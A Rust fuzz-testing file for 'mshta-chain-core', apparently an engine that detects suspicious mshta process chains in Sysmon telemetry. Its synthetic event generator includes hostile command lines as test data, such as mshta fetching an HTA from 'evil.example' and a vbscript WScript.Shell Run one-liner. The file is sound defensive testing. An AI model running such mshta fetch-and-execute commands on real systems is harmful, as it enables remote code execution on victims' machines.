//! Fuzz targets for mshta-chain-core and the structure-aware generator that
//! feeds them. Each target takes bytes and must never panic; the engine
//! targets also check the invariants hostile input must not break (tracked
//! state within the caps, the report independent of how the input is cut).
//!
//! Why not `cargo fuzz`: the project builds and tests with the pinned stable
//! toolchain (`rust-toolchain.toml`), and libFuzzer needs nightly's
//! `-Zsanitizer=fuzzer`; AFL needs its own compiler wrapper and a fork
//! server. These loops are coverage-less (random and mutated inputs, seeded
//! from real telemetry and generated events), run on stable in CI for a
//! bounded time, and every input that ever failed is kept under
//! `tests/fuzz-regressions/<target>/` and replayed by `cargo test`.

use mshta_chain_core::{Config, Engine};

/// A small deterministic PRNG (xorshift64*).
#[derive(Debug, Clone)]
pub struct Rng(pub u64);

impl Rng {
    /// The next 64 random bits.
    pub fn bits(&mut self) -> u64 {
        let mut x = self.0.max(1);
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    /// A number below `n` (0 when `n` is 0).
    pub fn below(&mut self, n: usize) -> usize {
        if n == 0 {
            0
        } else {
            (self.bits() % n as u64) as usize
        }
    }
    /// True `percent` percent of the time.
    pub fn chance(&mut self, percent: u64) -> bool {
        self.bits() % 100 < percent
    }
}

/// The targets, by name.
pub const TARGETS: &[&str] = &["split_decode", "engine", "snapshot", "config"];

/// Runs one target on one input. Panics are the failures looked for.
pub fn run(target: &str, data: &[u8]) {
    match target {
        "split_decode" => split_decode(data),
        "engine" => engine(data),
        "snapshot" => snapshot(data),
        "config" => config(data),
        _ => panic!("unknown fuzz target {target}"),
    }
}

/// Input splitting and decoding of every schema: the bytes as one push, and
/// cut in two where the first byte says.
fn split_decode(data: &[u8]) {
    let config = Config { max_item_bytes: 4096, ..Config::default() };
    let whole = mshta_chain_core::analyze(data, &config).expect("valid config");
    assert_eq!(whole.stats.events, whole.stats.accepted + whole.stats.rejected);
    let cut = data.first().map_or(0, |&b| usize::from(b) * data.len() / 256);
    let mut e = Engine::new(config).expect("valid config");
    e.push(&data[..cut]);
    e.push(&data[cut..]);
    let r = e.finish();
    assert_eq!(r.stats.events, r.stats.accepted + r.stats.rejected);
}

/// `Engine::push`/`finish` with small caps, pushed in pieces: tracked state
/// never exceeds the caps after any push, and no chain lists past its cap.
fn engine(data: &[u8]) {
    let config = Config {
        max_processes: 100,
        max_activity: 100,
        max_chain_children: 5,
        max_chain_activity: 5,
        max_chains: 3,
        max_inventory: 4,
        ..Config::default()
    };
    let mut e = Engine::new(config).expect("valid config");
    let mut rng = Rng(data.len() as u64 + 1);
    let mut rest = data;
    while !rest.is_empty() {
        let n = 1 + rng.below(rest.len().min(4096));
        let (piece, tail) = rest.split_at(n);
        rest = tail;
        let u = e.push(piece);
        for c in &u.chains {
            assert!(c.chain.children.len() <= 5, "children past the cap");
            assert!(c.chain.dns.len() <= 5 && c.chain.network.len() <= 5 && c.chain.modules.len() <= 5);
        }
        let s = e.report().stats;
        assert!(s.processes_tracked <= 100, "processes past max_processes: {}", s.processes_tracked);
        assert!(s.activity_tracked <= 100, "activity past max_activity: {}", s.activity_tracked);
    }
    let snap = e.snapshot();
    let mut again = Engine::restore_saved(&snap).expect("a fresh snapshot restores");
    let (a, b) = (again.finish(), e.finish());
    assert_eq!(a, b, "snapshot/restore changes nothing");
}

/// Snapshot restore of damaged bytes: an error, or an engine whose report,
/// pushes and finish work.
fn snapshot(data: &[u8]) {
    // Damage that the checksum would catch teaches nothing: restore the
    // bytes as they are, and re-sealed (checksum recomputed, as a forger
    // would), so the payload's own checks are what is exercised.
    restore_any(data);
    let mut sealed = data.to_vec();
    if sealed.len() >= 22 {
        let end = sealed.len() - 8;
        let len = (end - 14) as u64;
        sealed[6..14].copy_from_slice(&len.to_le_bytes());
        let sum = sealed[14..end]
            .iter()
            .fold(0xcbf2_9ce4_8422_2325u64, |h, &b| (h ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3));
        sealed[end..].copy_from_slice(&sum.to_le_bytes());
        restore_any(&sealed);
    }
}

fn restore_any(data: &[u8]) {
    if let Ok(mut e) = Engine::restore_saved(data) {
        let _ = e.report();
        e.push(b"{\"EventID\":1}\n");
        let r = e.finish();
        let text = serde_json::to_string(&r).expect("a report serialises");
        assert!(!text.is_empty());
    }
    let _ = Engine::restore(data, Config::default());
}

/// Config parsing: an error that says why, or a config an engine runs.
fn config(data: &[u8]) {
    let Ok(text) = std::str::from_utf8(data) else { return };
    match Config::from_json(text) {
        Ok(c) => {
            let mut e = Engine::new(c).expect("a parsed config is valid");
            e.push(b"{}\n");
            let _ = e.finish();
        }
        Err(err) => assert!(!err.0.is_empty() && err.0.len() < 2_000, "{}", err.0.len()),
    }
}

/// Real and generated seed inputs per target.
pub fn seeds(target: &str, real: &[Vec<u8>]) -> Vec<Vec<u8>> {
    let mut rng = Rng(7);
    match target {
        "snapshot" => {
            let mut e = Engine::new(Config::default()).expect("valid config");
            let mut out = Vec::new();
            for line in real.iter().take(200) {
                e.push(line);
                e.push(b"\n");
            }
            out.push(e.snapshot());
            let mut e = Engine::new(Config::default()).expect("valid config");
            e.push(&events(&mut rng, 60));
            out.push(e.snapshot());
            out
        }
        "config" => vec![
            br#"{"window_seconds": 300, "min_score": 20, "weights": {"parent_explorer": 0}}"#.to_vec(),
            br#"{"allow": {"command_lines": ["\\\\fs\\hta\\[a-z]+"], "networks": ["10.0.0.0/8"], "hosts": ["*.lab"]}}"#
                .to_vec(),
            br#"{"baseline": [{"shape": "mshta", "parent": "explorer.exe"}], "max_chain_children": 3}"#.to_vec(),
        ],
        _ => {
            let mut out: Vec<Vec<u8>> = real.chunks(40).take(30).map(|c| c.join(&b'\n')).collect();
            for _ in 0..10 {
                out.push(events(&mut rng, 50));
            }
            out
        }
    }
}

/// Structure-aware events: Sysmon process trees around mshta, network, DNS,
/// files, module loads, ends, Security 4688, with hostile values mixed in
/// (lone surrogates, huge numbers, far-future times, self-parents, deep
/// nesting), in JSON Lines, arrays, several per line and CR endings.
pub fn events(rng: &mut Rng, n: usize) -> Vec<u8> {
    const IMAGES: &[&str] = &[
        r"C:\\Windows\\System32\\mshta.exe",
        r"C:\\Windows\\System32\\cmd.exe",
        r"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        r"C:\\Windows\\explorer.exe",
    ];
    let mut out = String::new();
    let mut t: i64 = 1_714_557_600_000;
    for _ in 0..n {
        t += rng.below(5_000) as i64;
        let when = if rng.chance(2) { 253_402_300_000_000 } else { t };
        let time = format!("{}", when);
        let g = rng.below(40);
        let pg = if rng.chance(5) { g } else { rng.below(40) };
        let pid = match rng.below(20) {
            0 => "\"-1\"".to_string(),
            1 => "18446744073709551616".to_string(),
            2 => "1e999".to_string(),
            3 => "\"NaN\"".to_string(),
            _ => format!("\"{}\"", 100 + g),
        };
        let image = IMAGES[rng.below(IMAGES.len())];
        let cmd = match rng.below(6) {
            0 => "mshta https://evil.example/a\\ud800.hta".to_string(),
            1 => "mshta vbscript:Execute(\\\"CreateObject(\\\"\\\"WScript.Shell\\\"\\\").Run\\\")".to_string(),
            2 => format!("cmd /c {}", "A".repeat(rng.below(3000))),
            _ => format!("mshta https://h{}.example/x.hta", rng.below(30)),
        };
        let host = format!("PC{}", rng.below(3));
        let head = format!(
            r#""Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"{host}","UtcTime":{time},"ProcessGuid":"{{11111111-0000-0000-0000-{g:012x}}}","ProcessId":{pid},"Image":"{image}""#
        );
        let ev = match rng.below(8) {
            0..=2 => format!(
                r#"{{"EventID":1,{head},"CommandLine":"{cmd}","ParentProcessGuid":"{{11111111-0000-0000-0000-{pg:012x}}}","ParentProcessId":"{}","ParentImage":"{}"}}"#,
                100 + pg,
                IMAGES[rng.below(IMAGES.len())]
            ),
            3 => format!(
                r#"{{"EventID":3,{head},"DestinationIp":"203.0.113.{}","DestinationPort":"443","Initiated":"true"}}"#,
                rng.below(255)
            ),
            4 => format!(r#"{{"EventID":22,{head},"QueryName":"q{}.example"}}"#, rng.below(50)),
            5 => format!(r#"{{"EventID":11,{head},"TargetFilename":"C:\\Users\\Public\\f{}.hta"}}"#, rng.below(50)),
            6 => format!(r#"{{"EventID":5,{head}}}"#),
            _ => format!(
                r#"{{"EventID":7,{head},"ImageLoaded":"C:\\Windows\\System32\\vbscript.dll","x":{}{}}}"#,
                "[".repeat(rng.below(200)),
                "]".repeat(rng.below(200))
            ),
        };
        match rng.below(10) {
            0 => out.push_str(&format!("[{ev}]\n")),
            1 => out.push_str(&format!("{ev} ")),
            2 => out.push_str(&format!("{ev}\r")),
            _ => out.push_str(&format!("{ev}\n")),
        }
    }
    out.into_bytes()
}

/// One mutation of an input: flip, insert, delete, duplicate or splice.
pub fn mutate(rng: &mut Rng, data: &mut Vec<u8>, other: &[u8]) {
    const TOKENS: &[&[u8]] = &[
        b"{", b"}", b"[", b"]", b"\"", b"\\", b"\n", b"\r", b",", b":", b"\\ud800", b"1e999", b"-1", b"null", b"\xff",
    ];
    for _ in 0..1 + rng.below(8) {
        let at = rng.below(data.len() + 1);
        match rng.below(6) {
            0 if !data.is_empty() => {
                let i = rng.below(data.len());
                data[i] ^= 1 << rng.below(8);
            }
            1 => {
                let tok = TOKENS[rng.below(TOKENS.len())];
                data.splice(at..at, tok.iter().copied());
            }
            2 if !data.is_empty() => {
                let end = (at + rng.below(64)).min(data.len());
                data.drain(at.min(end)..end);
            }
            3 if !data.is_empty() && data.len() < 1 << 20 => {
                let start = rng.below(data.len());
                let end = (start + rng.below(256)).min(data.len());
                let piece = data[start..end].to_vec();
                data.splice(at..at, piece);
            }
            4 if !other.is_empty() => {
                let start = rng.below(other.len());
                let end = (start + rng.below(512)).min(other.len());
                data.splice(at..at, other[start..end].iter().copied());
            }
            _ => data.truncate(at),
        }
    }
}
